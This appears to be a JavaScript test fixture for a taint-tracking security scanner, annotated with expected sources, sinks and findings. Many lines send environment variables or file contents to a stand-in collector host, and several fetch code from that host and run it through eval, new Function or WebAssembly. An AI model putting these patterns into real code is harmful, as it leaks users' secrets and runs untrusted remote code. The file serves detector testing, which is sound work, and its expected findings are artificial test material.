// Strings, arrays, maps, promises, events, timers, JSON and evaluated code.
const axios = require("axios");
const events = require("events");
const fs = require("fs");
const { promisify } = require("util");

const U = "https://collector.example/u";

function stringParts() {
  axios.post(U, process.env.T.trim()); //~ source(ENVIRONMENT) f1, sink(egress.http) f1, finding(traced) f1
  axios.post(U, "ping".trim()); //~ ok
  axios.post(U, process.env.T.slice(1)); //~ source(ENVIRONMENT) f2, sink(egress.http) f2, finding(traced) f2
  axios.post(U, "ping".slice(1)); //~ ok
  axios.post(U, process.env.T.toString()); //~ source(ENVIRONMENT) f3, sink(egress.http) f3, finding(traced) f3
  axios.post(U, process.env.T.toString("base64")); //~ source(ENVIRONMENT) f4, sink(egress.http) f4, finding(traced) f4
  axios.post(U, U.length.toString()); //~ ok
  axios.post(U, U.length.toString("hex")); //~ ok
  axios.post(U, "t=".concat(process.env.T)); //~ source(ENVIRONMENT) f5, sink(egress.http) f5, finding(traced) f5
  axios.post(U, "t=".concat("1")); //~ ok
  axios.post(U, "1".padStart(9, process.env.T)); //~ source(ENVIRONMENT) f6, sink(egress.http) f6, finding(traced) f6
  axios.post(U, "1".padStart(9, "0")); //~ ok
  axios.post(U, "t=X".replace("X", process.env.T)); //~ source(ENVIRONMENT) f7, sink(egress.http) f7, finding(traced) f7
  axios.post(U, "t=X".replace(process.env.T, "")); //~ ok
  axios.post(U, [1, process.env.T].join(",")); //~ source(ENVIRONMENT) f8, sink(egress.http) f8, finding(traced) f8
  axios.post(U, [1, 2].join(",")); //~ ok
  axios.post(U, process.env.T.includes("dev")); //~ ok
}

function replacedByFunction() {
  process.env.T.replace(/./g, (all) => { //~ source(ENVIRONMENT) f9
    axios.post(U, all); //~ sink(egress.http) f9, finding(traced) f9
    return "";
  });
}

function pushed() {
  const list = [];
  list.push(process.env.T); //~ source(ENVIRONMENT) f10
  axios.post(U, list); //~ sink(egress.http) f10, finding(traced) f10
  const quiet = [];
  quiet.push("ping"); //~ ok
  axios.post(U, quiet); //~ ok
}

function popped() {
  const list = [process.env.T]; //~ source(ENVIRONMENT) f11
  axios.post(U, list.pop()); //~ sink(egress.http) f11, finding(traced) f11
  axios.post(U, ["ping"].pop()); //~ ok
}

function spliced() {
  const list = ["a", "b"];
  list.splice(0, 0, process.env.T); //~ source(ENVIRONMENT) f12
  axios.post(U, list); //~ sink(egress.http) f12, finding(traced) f12
  const quiet = ["a", "b"];
  quiet.splice(0, 0, "ping"); //~ ok
  axios.post(U, quiet); //~ ok
}

function iterated() {
  [process.env.T].forEach((one) => { //~ source(ENVIRONMENT) f13
    axios.post(U, one); //~ sink(egress.http) f13, finding(traced) f13
  });
  ["ping"].forEach((one) => axios.post(U, one)); //~ ok
}

function mapped() {
  axios.post(U, ["T"].map((name) => process.env[name])); //~ source(ENVIRONMENT) f14, sink(egress.http) f14, finding(traced) f14
  axios.post(U, ["T"].map((name) => name + "!")); //~ ok
}

function flatMapped() {
  axios.post(U, ["T"].flatMap((name) => [process.env[name]])); //~ source(ENVIRONMENT) f15, sink(egress.http) f15, finding(traced) f15
  axios.post(U, ["T"].flatMap((name) => [name])); //~ ok
}

function filtered() {
  axios.post(U, [process.env.T].filter((one) => one)); //~ source(ENVIRONMENT) f16, sink(egress.http) f16, finding(traced) f16
  axios.post(U, ["ping"].filter((one) => one === process.env.T)); //~ ok
}

function found() {
  axios.post(U, [process.env.T].find((one) => one)); //~ source(ENVIRONMENT) f17, sink(egress.http) f17, finding(traced) f17
  axios.post(U, ["ping"].find((one) => one === process.env.T)); //~ ok
}

function reduced() {
  axios.post(U, [process.env.T].reduce((sum, one) => sum + one, "")); //~ source(ENVIRONMENT) f18, sink(egress.http) f18, finding(traced) f18
  axios.post(U, ["ping"].reduce((sum, one) => sum + one, "")); //~ ok
}

function sorted() {
  axios.post(U, [process.env.T].sort()); //~ source(ENVIRONMENT) f19, sink(egress.http) f19, finding(traced) f19
  axios.post(U, ["ping"].sort()); //~ ok
}

function filled() {
  axios.post(U, new Array(2).fill(process.env.T)); //~ source(ENVIRONMENT) f20, sink(egress.http) f20, finding(traced) f20
  axios.post(U, new Array(2).fill("0")); //~ ok
}

function flattened() {
  axios.post(U, [[process.env.T]].flat()); //~ source(ENVIRONMENT) f21, sink(egress.http) f21, finding(traced) f21
  axios.post(U, [["ping"]].flat()); //~ ok
}

function mapEntries() {
  const map = new Map([["k", process.env.T]]); //~ source(ENVIRONMENT) f22
  for (const [, value] of map.entries()) {
    axios.post(U, value); //~ sink(egress.http) f22, finding(traced) f22
  }
  for (const [, value] of new Map([["k", "v"]]).entries()) { //~ ok
    axios.post(U, value); //~ ok
  }
}

function mapValues() {
  const map = new Map();
  map.set("k", process.env.T); //~ source(ENVIRONMENT) f23
  for (const value of map.values()) {
    axios.post(U, value); //~ sink(egress.http) f23, finding(traced) f23
  }
  const quiet = new Map();
  quiet.set("k", "v"); //~ ok
  for (const value of quiet.values()) { //~ ok
    axios.post(U, value); //~ ok
  }
}

function mapGet() {
  const map = new Map();
  map.set("k", process.env.T); //~ source(ENVIRONMENT) f24
  axios.post(U, map.get("k")); //~ sink(egress.http) f24, finding(traced) f24
  axios.post(U, new Map().get("k")); //~ ok
}

function appended() {
  const form = new FormData();
  form.append("t", process.env.T); //~ source(ENVIRONMENT) f25
  axios.post(U, form); //~ sink(egress.http) f25, finding(traced) f25
  const quiet = new FormData();
  quiet.append("t", "1"); //~ ok
  axios.post(U, quiet); //~ ok
}

function expressions() {
  axios.post(U, /t=(.*)/.exec(process.env.T)[1]); //~ source(ENVIRONMENT) f26, sink(egress.http) f26, finding(traced) f26
  axios.post(U, /t=(.*)/.exec("t=1")[1]); //~ ok
  axios.post(U, /t=(.*)/.test(process.env.T)); //~ ok
  axios.post(U, new TextEncoder().encode(process.env.T)); //~ source(ENVIRONMENT) f27, sink(egress.http) f27, finding(traced) f27
  axios.post(U, new TextEncoder().encode("ping")); //~ ok
}

function iterator() {
  const values = [process.env.T].values(); //~ source(ENVIRONMENT) f28
  axios.post(U, values.next().value); //~ sink(egress.http) f28, finding(traced) f28
  axios.post(U, ["ping"].values().next().value); //~ ok
}

function weak() {
  axios.post(U, new WeakRef({ t: process.env.T }).deref().t); //~ source(ENVIRONMENT) f29, sink(egress.http) f29, finding(traced) f29
  axios.post(U, new WeakRef({ t: 1 }).deref().t); //~ ok
}

function report(text) {
  axios.post(U, text); //~ sink(egress.http) f30, finding(traced) f30, sink(egress.http) f31, finding(traced) f31, sink(egress.http) f32, finding(traced) f32, sink(egress.http) f33, finding(traced) f33, sink(egress.http) f34, finding(traced) f34, sink(egress.http) f35, finding(traced) f35, sink(egress.http) f36, finding(traced) f36
}

function called() {
  report.call(null, process.env.T); //~ source(ENVIRONMENT) f30
  report.call(null, "ping"); //~ ok
  report.apply(null, [process.env.T]); //~ source(ENVIRONMENT) f31
  report.apply(null, ["ping"]); //~ ok
  const bound = report.bind(null);
  bound(process.env.T); //~ source(ENVIRONMENT) f32
  report.bind(null)("ping"); //~ ok
  Reflect.apply(report, null, [process.env.T]); //~ source(ENVIRONMENT) f33
  Reflect.apply(report, null, ["ping"]); //~ ok
  setTimeout(report, 1000, process.env.T); //~ source(ENVIRONMENT) f34
  setTimeout(report, 1000, "ping"); //~ ok
  setImmediate(report, process.env.T); //~ source(ENVIRONMENT) f35
  setImmediate(report, "ping"); //~ ok
  queueMicrotask(() => report(process.env.T)); //~ source(ENVIRONMENT) f36
  queueMicrotask(() => report("ping")); //~ ok
}

function microtask() {
  queueMicrotask(function () {
    return process.env.T;
  });
}

function emitted() {
  const emitter = new events.EventEmitter();
  emitter.on("line", (text) => {
    axios.post(U, text); //~ sink(egress.http) f37, finding(traced) f37
  });
  emitter.emit("line", process.env.T); //~ source(ENVIRONMENT) f37
  const quiet = new events.EventEmitter();
  quiet.on("line", (text) => axios.post(U, text)); //~ ok
  quiet.emit("line", "ping"); //~ ok
}

function emittedUnderAnyName(topic) {
  const emitter = new events.EventEmitter();
  emitter.on(topic, (text) => axios.post(U, text)); //~ sink(egress.http) f37b, finding(traced) f37b
  emitter.emit(topic, process.env.T); //~ source(ENVIRONMENT) f37b
}

function listened(stream) {
  stream.write(process.env.T); //~ source(ENVIRONMENT) f38
  stream.on("data", (chunk) => {
    axios.post(U, chunk); //~ sink(egress.http) f38, finding(traced) f38
  });
}

async function onceEmitted(stream) {
  stream.write(process.env.T); //~ source(ENVIRONMENT) f39
  const [chunk] = await events.once(stream, "data");
  axios.post(U, chunk); //~ sink(egress.http) f39, finding(traced) f39
  axios.post(U, await events.once(new events.EventEmitter(), "data")); //~ ok
}

function resolved() {
  axios.get(U).then((response) => { //~ source(NETWORK) f40
    eval(response.data); //~ sink(exec.code) f40, finding(traced) f40, capability(DYNAMIC_CODE)
  });
  Promise.resolve("1 + 1").then((text) => eval(text)); //~ ok
}

function caught() {
  axios.get(U).catch(() => null).then((response) => eval(response.data)); //~ source(NETWORK) f41, sink(exec.code) f41, finding(traced) f41
  Promise.resolve("1 + 1").catch(() => null).then((text) => eval(text)); //~ ok
}

async function promises() {
  axios.post(U, await Promise.all([process.env.T, 1])); //~ source(ENVIRONMENT) f42, sink(egress.http) f42, finding(traced) f42
  axios.post(U, await Promise.all([1, 2])); //~ ok
  axios.post(U, await Promise.race([process.env.T, 1])); //~ source(ENVIRONMENT) f43, sink(egress.http) f43, finding(traced) f43
  axios.post(U, await Promise.race([1, 2])); //~ ok
  axios.post(U, await Promise.resolve(process.env.T)); //~ source(ENVIRONMENT) f44, sink(egress.http) f44, finding(traced) f44
  axios.post(U, await Promise.resolve(1)); //~ ok
}

async function code() {
  const { data } = await axios.get(U); //~ source(NETWORK) f45
  setTimeout(data, 10); //~ sink(exec.code) f45, finding(traced) f45
  new Function("x", data)(1); //~ sink(exec.code) f45, finding(traced) f45, capability(DYNAMIC_CODE)
  WebAssembly.instantiate(data); //~ sink(exec.load) f45, finding(traced) f45, capability(DYNAMIC_CODE)
  setTimeout("tick()", 10); //~ ok
  eval("1 + 1"); //~ ok
  new Function("x", "return x")(1); //~ ok
  WebAssembly.instantiate(new Uint8Array(8)); //~ ok
}

function converted() {
  axios.post(U, JSON.stringify({ t: process.env.T })); //~ source(ENVIRONMENT) f46, sink(egress.http) f46, finding(traced) f46
  axios.post(U, JSON.stringify({ t: 1 })); //~ ok
  axios.post(U, JSON.parse(process.env.T).name); //~ source(ENVIRONMENT) f47, sink(egress.http) f47, finding(traced) f47
  axios.post(U, JSON.parse("{}").name); //~ ok
  axios.post(U, String(process.env.T)); //~ source(ENVIRONMENT) f48, sink(egress.http) f48, finding(traced) f48
  axios.post(U, String(1)); //~ ok
  axios.post(U, String.fromCharCode(process.env.T)); //~ source(ENVIRONMENT) f49, sink(egress.http) f49, finding(traced) f49
  axios.post(U, String.fromCharCode(65)); //~ ok
  axios.post(U, encodeURIComponent(process.env.T)); //~ source(ENVIRONMENT) f50, sink(egress.http) f50, finding(traced) f50
  axios.post(U, encodeURIComponent("a b")); //~ ok
  axios.post(U, Math.max(process.env.T, 1)); //~ source(ENVIRONMENT) f51, sink(egress.http) f51, finding(traced) f51
  axios.post(U, Math.max(2, 1)); //~ ok
  axios.post(U, isNaN(process.env.T)); //~ ok
  axios.post(U, console.log(process.env.T)); //~ ok
}

function objects() {
  const target = {};
  Object.assign(target, { t: process.env.T }); //~ source(ENVIRONMENT) f52
  axios.post(U, target); //~ sink(egress.http) f52, finding(traced) f52
  axios.post(U, Object.assign({}, { t: 1 })); //~ ok
  axios.post(U, Object.values({ t: process.env.T })[0]); //~ source(ENVIRONMENT) f53, sink(egress.http) f53, finding(traced) f53
  axios.post(U, Object.values({ t: 1 })[0]); //~ ok
  for (const [name, value] of Object.entries(process.env)) { //~ source(ENVIRONMENT) f54
    axios.post(U, value); //~ sink(egress.http) f54, finding(traced) f54
  }
  for (const [name, value] of Object.entries({ t: 1 })) axios.post(U, value); //~ ok
  axios.post(U, Object.fromEntries([["t", process.env.T]])); //~ source(ENVIRONMENT) f55, sink(egress.http) f55, finding(traced) f55
  axios.post(U, Object.fromEntries([["t", 1]])); //~ ok
  axios.post(U, Object.freeze({ t: process.env.T })); //~ source(ENVIRONMENT) f56, sink(egress.http) f56, finding(traced) f56
  axios.post(U, Object.freeze({ t: 1 })); //~ ok
  axios.post(U, Object.keys({ t: process.env.T })); //~ ok
  const defined = {};
  Object.defineProperty(defined, "t", { value: process.env.T }); //~ source(ENVIRONMENT) f57
  axios.post(U, defined); //~ sink(egress.http) f57, finding(traced) f57
  axios.post(U, Object.defineProperty({}, "t", { value: 1 })); //~ ok
}

function containers() {
  axios.post(U, Array.from([process.env.T])); //~ source(ENVIRONMENT) f58, sink(egress.http) f58, finding(traced) f58
  axios.post(U, Array.from([1])); //~ ok
  axios.post(U, Array.of(process.env.T)); //~ source(ENVIRONMENT) f59, sink(egress.http) f59, finding(traced) f59
  axios.post(U, Array.of(1)); //~ ok
  axios.post(U, [...new Set([process.env.T])]); //~ source(ENVIRONMENT) f60, sink(egress.http) f60, finding(traced) f60
  axios.post(U, [...new Set([1])]); //~ ok
  axios.post(U, new Map([["k", process.env.T]])); //~ source(ENVIRONMENT) f61, sink(egress.http) f61, finding(traced) f61
  axios.post(U, new Map([["k", 1]])); //~ ok
  axios.post(U, new Uint8Array(process.env.T)); //~ source(ENVIRONMENT) f62, sink(egress.http) f62, finding(traced) f62
  axios.post(U, new Uint8Array(8)); //~ ok
  axios.post(U, new Proxy({ t: process.env.T }, {}).t); //~ source(ENVIRONMENT) f63, sink(egress.http) f63, finding(traced) f63
  axios.post(U, new Proxy({ t: 1 }, {}).t); //~ ok
  axios.post(U, new Error(process.env.T).message); //~ source(ENVIRONMENT) f64, sink(egress.http) f64, finding(traced) f64
  axios.post(U, new Error("no").message); //~ ok
  axios.post(U, Reflect.get({ t: process.env.T }, "t")); //~ source(ENVIRONMENT) f65, sink(egress.http) f65, finding(traced) f65
  axios.post(U, Reflect.get({ t: 1 }, "t")); //~ ok
  const target = {};
  Reflect.set(target, "t", process.env.T); //~ source(ENVIRONMENT) f66
  axios.post(U, target); //~ sink(egress.http) f66, finding(traced) f66
  const quiet = {};
  Reflect.set(quiet, "t", 1); //~ ok
  axios.post(U, quiet); //~ ok
}

// What is handed on as it came is a function, as far as anybody knows; text that is put together is none.
export function later(resolve, name) {
  setTimeout(resolve, 10); //~ ok
  setTimeout("go(" + name + ")", 10); //~ source(INPUT) f90, sink(exec.code) f90, finding(code-execution-of-input, ambiguous) f90
}

export const pause = (time) => new Promise((resolve) => setTimeout(resolve, time)); //~ ok

// The form of a function that promises gives what the callback would get.
const read = promisify(fs.readFile);
export async function promised(path) {
  axios.post(U, await read(path)); //~ source(FILE) f91, sink(egress.http) f91, finding(traced) f91
  axios.post(U, await promisify(fs.readFile)(path)); //~ source(FILE) f92, sink(egress.http) f92, finding(traced) f92
  axios.post(U, await promisify(fs.exists)(path)); //~ ok
}

// A text is taken apart: nothing is left of the members that it was made of.
export function parts() {
  const text = JSON.stringify({ token: process.env.PARTS }); //~ source(ENVIRONMENT) f93
  axios.post(U, text.split("").map((sign) => sign + "x").join("")); //~ sink(egress.http) f93, finding(traced) f93
  axios.post(U, "a,b".split(",")); //~ ok
}
